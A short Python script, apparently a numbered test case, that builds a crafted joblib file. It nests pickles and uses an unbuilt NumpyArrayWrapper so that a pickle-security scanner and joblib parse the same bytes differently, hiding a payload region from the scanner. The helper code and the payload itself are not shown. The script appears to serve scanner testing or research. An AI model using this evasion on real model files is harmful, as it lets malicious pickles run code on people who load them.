from common import *
# An object-dtype wrapper: joblib reads a nested pickle and pushes WHATEVER it returns as "the
# array". The nested pickle returns an unbuilt NumpyArrayWrapper (made by calling the class;
# it has a .dtype, so joblib's byte-order check passes it through). The outer stream then
# BUILDs the stack top: joblib sees a wrapper and reads N raw bytes; the scanner's stack holds
# an opaque "array" node there, so it skips nothing and reads those bytes as opcodes
# (a BINSTRING over the payload).
N = 30
nested = b'\x80\x02' + wrapper6(N) + b'.'
hdr = b'\x80\x02' + wrapper6(1, 'O8') + b'}b' + nested + b'}b'
run('b13.joblib', hdr + region(N, [0]))
